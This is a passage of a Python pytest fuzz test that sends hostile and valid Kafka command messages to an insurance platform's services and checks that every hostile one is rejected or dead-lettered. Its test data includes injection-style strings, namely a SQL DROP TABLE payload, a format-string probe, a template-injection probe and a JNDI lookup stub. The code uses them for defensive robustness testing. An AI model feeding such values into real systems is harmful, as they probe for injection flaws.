        run = settings(max_examples=200, database=None, deadline=None, phases=[Phase.generate],
                       suppress_health_check=list(HealthCheck))(run)
        hypothesis_seed(seed + round_no)(run)()
    raise AssertionError("hypothesis stopped producing drafts")


@dataclass
class Chunk:
    service: str
    probes: list[Probe]
    hostile: int  # probes that count as hostile (identical replays do not)
    mismatched: int
    copies: int
    seconds: float


def make_chunk(service: str, chunk_no: int, count: int, targets: tuple[str, ...],
               seed: int) -> Chunk:
    """``count`` hostile probes for one topic (run in a worker process)."""
    started = time.process_time()
    collector = Collector(service, f"fz{chunk_no:02d}-{service[:3]}", chunk_no)
    probes: list[Probe] = []
    hostile = [0]

    def emit(draft: Draft) -> bool:
        probe = collector.probe(draft)
        if probe is not None:
            probes.append(probe)
            hostile[0] += probe.expect not in ("duplicate", "either")
        return hostile[0] < count

    generate(_hostile(service, targets), seed + chunk_no * 1000, emit)
    return Chunk(service, probes, hostile[0], collector.mismatched, collector.copies,
                 time.process_time() - started)


_STRATEGIES: dict[tuple[str, tuple[str, ...]], Hostile] = {}


def _hostile(service: str, targets: tuple[str, ...]) -> Hostile:
    if (service, targets) not in _STRATEGIES:
        _STRATEGIES[service, targets] = Hostile(service, targets)
    return _STRATEGIES[service, targets]


# -- valid commands, interleaved ---------------------------------------------------------------

#: Printable but awkward text valid commands carry: stored and shown as it is, never run.
AWKWARD = ("O'Brien", "Robert'); DROP TABLE members;--", "张'; --明", "a\\b", '"quoted"',
           "%s%n", "{{7*7}}", "${jndi:x}", "\u202e反转", "Zoë", "李\U0001f4a9华")
SETUP_JOINED = date(2019, 1, 2)


def person(seq: int, birth: date) -> tuple[str, str]:
    regions = ("110101", "310104", "440305", "330106")
    national_id = synthetic_id(regions[seq % 4], birth + timedelta(days=seq // 4000),
                               seq // 4 % 1000)
    return national_id, "张" + "伟芳娜敏静丽强磊"[seq % 8] + "明"


def join(member_id: str, seq: int, *, name: str | None = None,
         joined_on: date = SETUP_JOINED) -> dict[str, Any]:
    national_id, default_name = person(seq, date(1980, 3, 1) + timedelta(days=seq % 3000))
    return {"member_id": member_id, "payer_id": member_id, "plan": "critical_illness",
            "national_id": national_id, "name": name or default_name, "relation": "self",
            "payer_credit_score": 700, "health_declaration": True, "chronic_conditions": [],
            "joined_on": joined_on.isoformat()}


def valid_command(service: str, k: int, members: list[str]) -> Probe:
    """The k-th valid command for a topic: it must succeed among the hostile ones."""
    command_id = f"fz-ok-{service[:3]}-{k:05d}"
    if service == "membership":
        type_name, success = "membership.JoinPlan", "membership.MemberJoined"
        data = join(f"fz-ok-m{k:05d}", 500_000 + k, name=AWKWARD[k % len(AWKWARD)],
                    joined_on=date(2020, 1, 2))
    elif service == "claims":
        type_name, success = "claims.FileClaim", "claims.ClaimFiled"
        data = {"case_id": f"fz-ok-case{k:05d}", "member_id": members[k],
                "illness_code": "malignant_tumour", "diagnosed_on": "2020-06-01",
                "hospital": AWKWARD[k % len(AWKWARD)], "documents": []}
    elif service == "jury":
        type_name, success = "jury.QualifyJuror", "jury.JurorQualified"
        data = {"member_id": members[k], "exam_score": 80 + k % 21, "qualified_on": "2020-06-01"}
    elif service == "publicity":
        type_name, success = "publicity.OpenPublicityRound", "publicity.PublicityRoundOpened"
        data = {"round_date": date(VALID_ROUND_YEARS[0] + k // 24, k // 2 % 12 + 1,
                                   (7, 21)[k % 2]).isoformat()}
    else:
        type_name, success = "billing.RunSharingPeriod", "billing.SharingRunStarted"
        data = {"sharing_date": date(2020, 7 + k // 2 % 6, (14, 28)[k % 2]).isoformat(),
                "dry_run": True}
    raw = orjson.dumps({"specversion": "1.0", "id": command_id, "source": TRUSTED + "ok",
                        "type": type_name, "subject": command_id, "data": data})
    return Probe("valid", raw, command_id.encode(), expect="ok", success_type=success,
                 command_id=command_id)


# -- the test ------------------------------------------------------------------------------------

CHUNK = 2_500
TARGETS = 10  # members that exist, at which some hostile commands aim


@pytest.fixture(scope="module")
def generator() -> Iterator[concurrent.futures.ProcessPoolExecutor]:
    """Two worker processes make the probes while the platform starts."""
    with concurrent.futures.ProcessPoolExecutor(
            2, mp_context=multiprocessing.get_context("spawn")) as pool:
        yield pool


def valid_count(service: str) -> int:
    every = VALID_EVERY * (10 if service == "billing" else 1)  # a dry run is a whole run
    return max(3, PER_TOPIC // every)


async def test_every_hostile_message_has_its_one_outcome_and_valid_ones_succeed(
        generator: concurrent.futures.ProcessPoolExecutor, kafka_bootstrap: str,
        tmp_path_factory: pytest.TempPathFactory) -> None:
    started = time.monotonic()
    loop = asyncio.get_running_loop()
    setup_members = [f"fz-setup-{i:05d}" for i in range(max(valid_count(s) for s in SERVICES))]
    targets = tuple(f"fz-target-{i:02d}" for i in range(TARGETS))
    chunks = [loop.run_in_executor(generator, make_chunk, service, n,
                                   min(CHUNK, PER_TOPIC - n * CHUNK), targets, SEED)
              for n in range(-(-PER_TOPIC // CHUNK)) for service in SERVICES]
    env = {"MAX_MESSAGE_BYTES": str(LIMIT), "ALLOWED_SOURCES": SOURCES_SETTING}
    with running_platform(kafka_bootstrap, tmp_path_factory.mktemp("fuzz-logs"),
                          extra_env=env) as platform:
        await fuzz(platform, chunks, setup_members, targets, started)


async def fuzz(platform: Platform, chunks: list[asyncio.Future[Chunk]],
               setup_members: list[str], targets: tuple[str, ...], started: float) -> None:
    bootstrap = platform.bootstrap
    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, linger_ms=10,
                                max_request_size=8 * LIMIT)
    await producer.start()
    reader = Reader(bootstrap)
    await reader.start()
    try:
        # members that exist: the valid claims and jurors name them, some hostile ones too
        setup = [Probe("setup", orjson.dumps({
            "specversion": "1.0", "id": f"setup-{m}", "source": TRUSTED + "setup",
            "type": "membership.JoinPlan", "data": join(m, i)}), m.encode(), expect="ok",
            success_type="membership.MemberJoined", command_id=f"setup-{m}")
            for i, m in enumerate([*setup_members, *targets])]
        await send(producer, "membership.commands", setup)
        await reader.wait(lambda: all(reader.succeeded(p) for p in setup), 60,
                          "the setup joins")
        for service in ("claims", "jury"):
            deadline = time.monotonic() + 60
            while handled_count(platform.ports[service], "membership.MemberJoined") < len(setup):
                assert time.monotonic() < deadline, f"{service} did not take in the setup joins"
                await asyncio.sleep(0.2)
        setup_seconds = time.monotonic() - started

        sent: dict[str, list[Probe]] = defaultdict(list)
        valid_sent: Counter[str] = Counter()
        stats: list[Chunk] = []
        for next_chunk in asyncio.as_completed(chunks):
            chunk = await next_chunk
            stats.append(chunk)
            service = chunk.service
            probes = list(chunk.probes)
            share = valid_count(service) * len(probes) // (PER_TOPIC + 1) + 1
            for _ in range(share):
                if valid_sent[service] < valid_count(service):
                    probes.insert(random.Random(valid_sent[service]).randrange(len(probes)),
                                  valid_command(service, valid_sent[service], setup_members))
                    valid_sent[service] += 1
            await send(producer, topics.commands(service), probes)
            sent[service] += probes
        for service in SERVICES:  # whatever the rounding left over
            rest = [valid_command(service, k, setup_members)
                    for k in range(valid_sent[service], valid_count(service))]
            await send(producer, topics.commands(service), rest)
            sent[service] += rest
        sent_seconds = time.monotonic() - started

        everything = [p for ps in sent.values() for p in ps]
        await reader.wait(lambda: all(reader.has_outcome(p) for p in everything),
                          OUTCOME_TIMEOUT, "an outcome for every probe",
                          missing=lambda: [p for p in everything if not reader.has_outcome(p)])
        await asyncio.sleep(1.0)  # anything doubled would arrive now
        await reader.drain()
        done_seconds = time.monotonic() - started
    finally:
        await reader.stop()
        await producer.stop()

    failures = []
    for service in SERVICES:
        failures += reader.check(service, sent[service])
    for service in SERVICES:
        proc = platform.processes[service]
        if proc.poll() is not None:
            failures.append(f"{service} exited with {proc.returncode}")
        health = platform.health(service)
        if health is None or health.get("status") != "ok":
            failures.append(f"{service} is not healthy: {health}")
        log = platform.logs[service].read_text(errors="replace")
        for marker in ('"handler failed"', '"batch aborted', '"batch failed', "Traceback"):
            lines = [line for line in log.splitlines() if marker in line]
            if lines:
                failures.append(f"{service}'s log has {marker} | {len(lines)} lines, first: "
                                f"{lines[0][:1500]}")
    report(sent, stats, reader, setup_seconds, sent_seconds, done_seconds)
    assert not failures, f"seed {SEED}:\n" + summary(failures)
    for service in SERVICES:
        hostile = sum(p.expect not in ("ok", "duplicate", "either") or p.import_refused
                      for p in sent[service])
        assert hostile >= PER_TOPIC, (service, hostile)


async def send(producer: AIOKafkaProducer, topic: str, probes: list[Probe]) -> None:
    """Send in order; a replay goes to its original's partition, so it comes after it."""
    pending = []
    for probe in probes:
        partition = None
        if probe.replay_of is not None:
            if probe.replay_of.partition is None:
                await asyncio.gather(*pending)
                pending.clear()
            partition = probe.replay_of.partition
        fut = await producer.send(topic, probe.value, key=probe.key, partition=partition)
        pending.append(_record(fut, probe))
    await asyncio.gather(*pending)


async def _record(fut: asyncio.Future[Any], probe: Probe) -> None:
    meta = await fut
    probe.topic, probe.partition, probe.offset = meta.topic, meta.partition, meta.offset


class Reader:
    """Reads every event topic and DLQ from the start: the outcomes to check."""

    RUNTIME = {"MALFORMED", "UNKNOWN_TYPE", "INVALID_DATA", "PROCESSING_FAILED", "TOO_LARGE",
               "UNAUTHORIZED_SOURCE", "ID_REUSED"}

    def __init__(self, bootstrap: str) -> None:
        self.consumer = AIOKafkaConsumer(
            *[topics.events(s) for s in SERVICES], *[topics.dlq(s) for s in SERVICES],
            bootstrap_servers=bootstrap, group_id=None, auto_offset_reset="earliest",
            max_partition_fetch_bytes=16 * 1024 * 1024, fetch_max_bytes=64 * 1024 * 1024)
        #: service -> command id -> [(reason code, message)]
        self.rejections: dict[str, dict[str, list[tuple[str, str]]]] = defaultdict(
            lambda: defaultdict(list))
        #: (source topic, partition, offset) -> [reason code]
        self.dead: dict[tuple[str, int, int], list[str]] = defaultdict(list)
        self.dead_count: Counter[str] = Counter()
        #: correlation id -> [(type, data)] of every event but rejections
        self.caused: dict[str, list[tuple[str, dict[str, Any]]]] = defaultdict(list)
        self.changed = asyncio.Event()
        self.received = 0
        self.task: asyncio.Task[None] | None = None

    async def start(self) -> None:
        await self.consumer.start()
        self.task = asyncio.create_task(self._run())

    async def stop(self) -> None:
        if self.task:
            self.task.cancel()
            await asyncio.gather(self.task, return_exceptions=True)
        await self.consumer.stop()

    async def _run(self) -> None:
        while True:
            batch = await self.consumer.getmany(timeout_ms=200, max_records=20_000)
            for records in batch.values():
                self.received += len(records)
                for r in records:
                    self._take(r)
            if batch:
                self.changed.set()

    async def drain(self) -> None:
        """Until a fetch brings nothing new."""
        while True:
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), 1.0)
            except TimeoutError:
                return

    def _take(self, record: Any) -> None:
        if record.topic.endswith(".dlq"):
            h = {k: v.decode(errors="replace") for k, v in record.headers or ()}
            self.dead[h["dlq-source-topic"], int(h["dlq-source-partition"]),
                      int(h["dlq-source-offset"])].append(h["dlq-reason-code"])
            self.dead_count[record.topic.split(".")[0]] += 1
            return
        event = orjson.loads(record.value)
        if event["type"].endswith(".CommandRejected"):
            d = event["data"]
            self.rejections[event["type"].split(".")[0]][d["command_id"]].append(
                (d["reason_code"], d["message"]))
        else:
            self.caused[event.get("correlationid") or ""].append((event["type"], event["data"]))

    def succeeded(self, probe: Probe) -> bool:
        return any(t == probe.success_type for t, _ in self.caused.get(probe.command_id, ()))

    def has_outcome(self, probe: Probe) -> bool:
        if probe.expect == "duplicate":
            return True
        if probe.expect == "ok":
            return self.succeeded(probe)
        service = probe.topic.split(".")[0]
        if probe.expect == "either":
            return self.succeeded(probe) or bool(
                self.rejections[service].get(probe.command_id or ""))
        if probe.expect == "dlq" and (probe.topic, probe.partition, probe.offset) not in self.dead:
            return False
        return probe.rejection_id is None or bool(
            self.rejections[service].get(probe.rejection_id))

    async def wait(self, condition: Callable[[], bool], timeout: float, what: str,
                   missing: Callable[[], list[Probe]] | None = None) -> None:
        """Until ``condition``; fails after ``timeout``, or sooner when nothing at all has
        arrived for ``STALL`` seconds (a stalled consumer)."""
        deadline = time.monotonic() + timeout
        seen, quiet_since = self.received, time.monotonic()
        while not condition():
            if self.received != seen:
                seen, quiet_since = self.received, time.monotonic()
            if time.monotonic() > min(deadline, quiet_since + STALL):
                left = missing() if missing else []
                raise AssertionError(f"seed {SEED}: stalled or timed out waiting for {what}; "
                                     f"{len(left)} without one, e.g. "
                                     + "\n".join(f"{p.kind} {p.expect} {p.reason} "
                                                 f"{p.value[:300]!r}" for p in left[:10]))
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), 1.0)
            except TimeoutError:
                pass

    def check(self, service: str, probes: list[Probe]) -> list[str]:
        """Exactly the outcomes the probes call for: nothing missing, doubled or extra."""
        problems: list[str] = []
        topic = topics.commands(service)
        rejections = self.rejections[service]
        expected_rejections: Counter[str] = Counter()
        expected_dead = 0
        hostile_ids = set()
        for p in probes:
            where = (topic, p.partition, p.offset)
            dead = self.dead.get(where, [])
            what = f"{service} {p.kind}"
            example = f"{p.value[:300]!r}"
            if p.expect == "dlq":
                expected_dead += 1
                if dead != [p.reason]:
                    problems.append(f"{what}: DLQ {dead[:2]}, expected [{p.reason}] | {example}")
            elif dead:
                problems.append(f"{what}: unexpected DLQ entry {dead[:2]} | {example}")
            if p.rejection_id is not None:
                expected_rejections[p.rejection_id] += 1
                got = rejections.get(p.rejection_id, [])
                codes = [c for c, _ in got]
                if p.expect == "dlq" and codes != [p.reason]:
                    problems.append(f"{what}: rejected {codes[:2]}, expected [{p.reason}] | "
                                    f"{got[:2]} {example}")
                elif p.expect == "rejected" and (len(codes) != 1 or codes[0] in self.RUNTIME):
                    problems.append(f"{what}: rejected {codes[:2]}, expected one by the rules | "
                                    f"{got[:2]} {example}")
                hostile_ids.add(p.rejection_id)
            if p.expect == "either":
                events = self.caused.get(p.command_id or "", [])
                got = rejections.get(p.command_id or "", [])
                ok = [t for t, _ in events if t == p.success_type]
                if not ((len(ok) == 1 and not got) or (
                        not events and len(got) == 1 and got[0][0] not in self.RUNTIME)):
                    problems.append(f"{what}: expected {p.success_type} or a rule's refusal | "
                                    f"got {events[:2]} {got[:2]} {example}")
            if p.expect == "ok":
                events = self.caused.get(p.command_id or "", [])
                wanted = [d for t, d in events if t == p.success_type]
                if len(wanted) != 1 or rejections.get(p.command_id or ""):
                    problems.append(f"{what}: expected one {p.success_type} | got {events[:3]}, "
                                    f"rejections {rejections.get(p.command_id or '')} {example}")
                elif p.import_refused and wanted[0]["accepted"] != 0:
                    problems.append(f"{what}: a hostile import admitted someone | {example}")
        extra = set(rejections) - set(expected_rejections) - {
            p.command_id for p in probes if p.command_id}
        if extra:
            problems.append(f"{service}: {len(extra)} rejections of unknown ids | "
                            f"{sorted(extra)[:5]}")
        if self.dead_count[service] != expected_dead:
            problems.append(f"{service}: {self.dead_count[service]} DLQ entries, "
                            f"expected {expected_dead}")
        succeeded = hostile_ids & {c for c, evs in self.caused.items() if evs}
        if succeeded:
            problems.append(f"{service}: {len(succeeded)} hostile messages succeeded | "
                            f"{sorted(succeeded)[:5]}")
        return problems


def summary(failures: list[str]) -> str:
    """Each kind of failure once, with its count and one example."""
    groups: dict[str, list[str]] = defaultdict(list)
    for f in failures:
        head, _, detail = f.partition(" | ")
        groups[head].append(detail)
    return "\n".join(f"{len(d)} x {head}" + (f"\n    e.g. {d[0][:700]}" if d[0] else "")
                     for head, d in sorted(groups.items(), key=lambda g: -len(g[1])))


def report(sent: dict[str, list[Probe]], stats: list[Chunk], reader: Reader,
           setup_seconds: float, sent_seconds: float, done_seconds: float) -> None:
    """What was tried and what happened, for the log and docs/reliability.md."""
    print(f"\nhostile input, seed {SEED}: setup {setup_seconds:.1f}s, all sent "
          f"{sent_seconds:.1f}s, all outcomes {done_seconds:.1f}s; generation "
          f"{sum(c.seconds for c in stats):.1f}s CPU in workers, "
          f"{sum(c.mismatched for c in stats)} drafts dropped as unexpectedly valid, "
          f"{sum(c.copies for c in stats)} as copies")
    for service in SERVICES:
        probes = sent[service]
        kinds = Counter(p.kind for p in probes)
        codes = Counter(c for cs in reader.rejections[service].values() for c, _ in cs)
        dead = Counter(r for (t, _, _), rs in reader.dead.items()
                       if t == topics.commands(service) for r in rs)
        print(f"{service}: {len(probes)} sent: {dict(kinds.most_common())}")
        print(f"  rejections {dict(codes.most_common())}")
        print(f"  DLQ {dict(dead.most_common())}")
